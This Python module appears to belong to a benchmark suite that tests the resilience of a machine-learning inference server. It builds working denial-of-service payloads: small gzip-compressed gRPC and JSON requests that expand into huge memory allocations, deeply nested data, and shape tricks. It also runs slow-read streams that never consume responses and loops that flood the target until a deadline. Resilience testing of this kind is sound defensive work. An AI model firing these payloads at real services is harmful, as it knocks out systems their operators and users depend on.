"""Requests of few bytes that stand for many objects. Each takes a port's address and the end of the attack."""

from __future__ import annotations

import contextlib
import gzip
import http.client
import itertools
import time
from collections.abc import Callable, Mapping

import grpc

from benchmarks.attacks.server import OUTER, TEXT, WIDE
from benchmarks.attacks.sockets import Address
from trtnode.protos import ModelInferRequest

INFER = "/inference.GRPCInferenceService/ModelInfer"
STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"
PATH = "/v2/models/digits/infer"
TEXT_PATH = f"/v2/models/{TEXT}/infer"
NO_HEADERS: Mapping[str, str] = {}
MIB = 1 << 20
LIMIT = 24 * MIB
"""Bytes of a message; 24 kB once they are packed. grpcio itself holds up to three times the bytes of a message."""


def empty_inputs() -> bytes:
    """Millions of inputs of two bytes each."""
    return b"\x2a\x00" * (LIMIT // 2)


def parameters_of_inputs() -> bytes:
    """One input with millions of parameters."""
    one = ModelInferRequest.InferInputTensor(name="image", datatype="FP32", shape=[1, 1, 8, 8]).SerializeToString()
    entries = b"".join(b"\x22\x05\x0a\x03" + number.to_bytes(3, "big") for number in range(0x202020, 0x602020))
    entries = bytes(byte & 0x7F for byte in entries)
    size = len(one) + len(entries)
    return b"\x0a\x06digits\x2a" + _varint(size) + one + entries


def long_shape() -> bytes:
    """One input with a shape of millions of dimensions, a byte each."""
    return b"\x0a\x06digits\x2a" + _varint(LIMIT + 5) + b"\x1a" + _varint(LIMIT) + b"\x01" * LIMIT


def short_numbers() -> bytes:
    """One input with millions of numbers of 64 bits, a byte each."""
    contents = b"\x1a" + _varint(LIMIT) + b"\x01" * LIMIT
    return b"\x0a\x06digits\x2a" + _varint(len(contents) + 5) + b"\x2a" + _varint(len(contents)) + contents


def empty_lists() -> bytes:
    """Data of millions of lists in lists."""
    return _json(b"[" + b"[[[[]]]]," * (LIMIT // 9) + b"[]]")


def deep_lists() -> bytes:
    """Data that is nested a million times."""
    return _json(b"[" * MIB + b"]" * MIB)


def many_numbers() -> bytes:
    """Data of millions of numbers."""
    return _json(b"[" + b"1e9," * (LIMIT // 4) + b"1]")


def empty_objects() -> bytes:
    """Millions of inputs without anything in them."""
    return b'{"inputs": [' + b"{}," * (LIMIT // 3) + b"{}]}"


def wide_request() -> bytes:
    """One number, which the model answers with 1 MiB."""
    request = ModelInferRequest(model_name=WIDE, raw_input_contents=[bytes(4)])
    request.inputs.add(name="x", datatype="FP32", shape=[1])
    return bytes(request.SerializeToString())


def unread_streams(address: Address, deadline: float) -> None:
    """Eight streams that ask for 1 MiB again and again, and read nothing."""
    with contextlib.ExitStack() as stack:
        while time.monotonic() < deadline:
            calls = [_unread_call(_channel(address, stack), STREAM, 10_000) for _ in range(8)]
            while time.monotonic() < deadline and any(call.is_active() for call in calls):
                time.sleep(0.1)


def unread_calls(address: Address, deadline: float) -> None:
    """Calls that ask for 1 MiB each, and read nothing."""
    with contextlib.ExitStack() as stack:
        while time.monotonic() < deadline:
            channels = [_channel(address, stack) for _ in range(8)]
            calls = [_unread_call(channel, INFER, 1) for channel in channels for _ in range(25)]
            while time.monotonic() < deadline and any(call.is_active() for call in calls):
                time.sleep(0.1)


def empty_strings() -> bytes:
    """Millions of strings of four bytes each, which a model appends to themselves."""
    return _request(TEXT, ("x", "BYTES", [LIMIT // 4], bytes(LIMIT)))


def span_of_nothing() -> bytes:
    """No elements, in a shape of 2**28 columns."""
    return _request(OUTER, ("a", "FP32", [0, 1], b""), ("b", "FP32", [0, 2**28], b""))


def outer_sum() -> bytes:
    """A column and a row of 1 MiB each, whose sum takes 256 GiB."""
    count = MIB // 4
    return _request(OUTER, ("a", "FP32", [count, 1], bytes(MIB)), ("b", "FP32", [1, count], bytes(MIB)))


def _request(model: str, *inputs: tuple[str, str, list[int], bytes]) -> bytes:
    request = ModelInferRequest(model_name=model, raw_input_contents=[data for *_, data in inputs])
    for name, datatype, shape, _ in inputs:
        request.inputs.add(name=name, datatype=datatype, shape=shape)
    return bytes(request.SerializeToString())


def strings_in_json() -> bytes:
    """A million strings in JSON."""
    count = 1_000_000
    return _json(b"[" + b'"",' * (count - 1) + b'""]', f'"x", "shape": [{count}], "datatype": "BYTES"'.encode())


def strings_behind_json(address: Address, deadline: float) -> None:
    """Post millions of strings of four bytes each behind JSON."""
    head = _json(str(LIMIT).encode(), f'"x", "shape": [{LIMIT // 4}], "datatype": "BYTES"'.encode())
    head = head.replace(b'"data": ', b'"parameters": {"binary_data_size": ').replace(b"}]}", b"}}]}")
    headers = {"Inference-Header-Content-Length": str(len(head))}
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError, http.client.HTTPException):
            post_body(address, head + bytes(LIMIT), TEXT_PATH, headers)


STRINGS = (strings_in_json, strings_behind_json)


def _channel(address: Address, stack: contextlib.ExitStack) -> grpc.Channel:
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.http2.lookahead_bytes", 0), ("grpc.http2.bdp_probe", 0)]
    return stack.enter_context(grpc.insecure_channel(f"{address[0]}:{address[1]}", options=options))


def _unread_call(channel: grpc.Channel, method: str, requests: int) -> grpc.Call:
    return channel.stream_stream(method)(itertools.repeat(wide_request(), requests))


MESSAGES = (empty_inputs, parameters_of_inputs, long_shape, short_numbers)
SIZES = (empty_strings, span_of_nothing, outer_sum)
"""Messages whose shapes stand for more than their bytes."""
BODIES = (empty_lists, deep_lists, many_numbers, empty_objects)


def send_message(address: Address, message: bytes, method: str = INFER) -> grpc.StatusCode:
    """Send a message, packed with gzip; return the status of its answer."""
    with grpc.insecure_channel(f"{address[0]}:{address[1]}", options=[("grpc.max_send_message_length", -1)]) as channel:
        try:
            list(channel.stream_stream(method)(iter([message]), compression=grpc.Compression.Gzip, timeout=120))
        except grpc.RpcError as error:
            return error.code()
    return grpc.StatusCode.OK


def post_body(
    address: Address, body: bytes, path: str = PATH, headers: Mapping[str, str] = NO_HEADERS
) -> tuple[int, bytes]:
    """Send a body, packed with gzip; return status and content of its answer."""
    connection = http.client.HTTPConnection(*address, timeout=120)
    with contextlib.closing(connection):
        connection.request("POST", path, gzip.compress(body, 1), {"Content-Encoding": "gzip", **headers})
        answer = connection.getresponse()
        return answer.status, answer.read()


def _json(data: bytes, tensor: bytes = b'"image", "shape": [1, 1, 8, 8], "datatype": "FP32"') -> bytes:
    return b'{"inputs": [{"name": ' + tensor + b', "data": ' + data + b"}]}"


def _varint(value: int) -> bytes:
    return bytes([value & 0x7F | 0x80, value >> 7 & 0x7F | 0x80, value >> 14 & 0x7F | 0x80, value >> 21 & 0x7F])


def messages(make: Callable[[], bytes], address: Address, deadline: float) -> None:
    """Send one message over gRPC again and again."""
    message = make()
    while time.monotonic() < deadline:
        send_message(address, message)


def bodies(make: Callable[[], bytes], address: Address, deadline: float, path: str = PATH) -> None:
    """Post one body again and again."""
    body = make()
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError, http.client.HTTPException):
            post_body(address, body, path)
